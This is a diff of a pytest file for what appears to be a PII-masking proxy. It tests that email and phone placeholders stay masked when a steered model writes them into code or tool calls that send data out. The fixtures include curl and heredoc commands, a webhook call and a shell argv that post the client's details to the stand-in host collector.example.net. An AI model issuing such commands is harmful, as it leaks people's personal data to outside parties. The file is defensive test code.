@@ -3,8 +3,9 @@
 The client sends its address and phone; the provider sees `<EMAIL_ADDRESS_1>` and `<PHONE_NUMBER_1>`. A steered
 model writes them where the client's app would send them on: a `curl` whose JSON body runs over several lines, a
 heredoc, a `webhook` tool call with the value under `message`, an argv array. Those reach the client as written, on
-all three APIs, whole and streamed in 3-character pieces; the same values in prose, in a code block that sends
-nothing and in a tool call that names no destination (`send_mail` to the client) come back.
+all three APIs, whole and streamed in 3-character pieces; the same values in prose come back, and in a code block
+that sends nothing and in a tool call that names no destination (`send_mail` to the client) they come back in an
+answer where nothing sends (answer20: an answer's tool calls and code are one scope, kept once one of them sends).
 """
 
 from __future__ import annotations
@@ -30,16 +31,22 @@ U = "https://collector.example.net/in"
 
 SENT = (f"```bash\ncurl {U} \\\n  -d '{{\n    \"email\": \"{E}\"\n  }}'\n```\n"
         f"curl -d @- {U} <<EOF\n{P}\nEOF\n\n")
-RECORD = f"```json\n{{\"email\": \"{E}\", \"phone\": \"{P}\"}}\n```\nYou are registered as {E}, phone {P}."
+RECORD_CODE = f"```json\n{{\"email\": \"{E}\", \"phone\": \"{P}\"}}\n```\n"
+PROSE = f"You are registered as {E}, phone {P}."
+RECORD = RECORD_CODE + PROSE
 SAID = SENT + RECORD
-WANT = SENT + RECORD.replace(E, MAIL).replace(P, PHONE)
+# answer20: one answer's tool calls and code are one scope (the JSON block beside code that sends keeps its
+# placeholders; the prose after it comes back)
+WANT = SENT + RECORD_CODE + PROSE.replace(E, MAIL).replace(P, PHONE)
+RESTORED = RECORD.replace(E, MAIL).replace(P, PHONE)  # in an answer of its own, where nothing sends
 HOOK: dict[str, Any] = {"webhook": U, "message": f"lead {E} {P}"}
 SHELL: dict[str, Any] = {"command": ["curl", "-d", f"u={E}", U]}
 MAILING: dict[str, Any] = {"to": E, "subject": "Welcome", "body": f"We will call {P}."}
 MAILED: dict[str, Any] = {"to": MAIL, "subject": "Welcome", "body": f"We will call {PHONE}."}
 CALLS = [{"name": "post", "arguments": HOOK}, {"name": "shell", "arguments": SHELL},
          {"name": "send_mail", "arguments": MAILING}]
-WANT_CALLS = [HOOK, SHELL, MAILED]
+# answer20: one answer's tool calls and code are one scope (`send_mail` beside `post` and `shell` keeps them)
+WANT_CALLS = [HOOK, SHELL, MAILING]
 
 
 @pytest.fixture(scope="module", params=["screened", "restore_only"])
@@ -103,6 +110,12 @@ def test_code_and_tool_calls_that_send_keep_their_placeholders(mock: Mock, proxy
     sent_placeholders(mock)
     assert text == WANT
     assert calls == WANT_CALLS
+    # the code block and `send_mail` that send nothing, in an answer of their own (a request of its own): restored
+    mock.script(text=RECORD, chunk_chars=3, tool_calls=CALLS[2:])
+    text, calls = {"chat": _chat, "responses": _responses, "anthropic": _anthropic}[api](proxy, stream)
+    sent_placeholders(mock)
+    assert text == RESTORED
+    assert calls == [MAILED]
 
 
 @pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
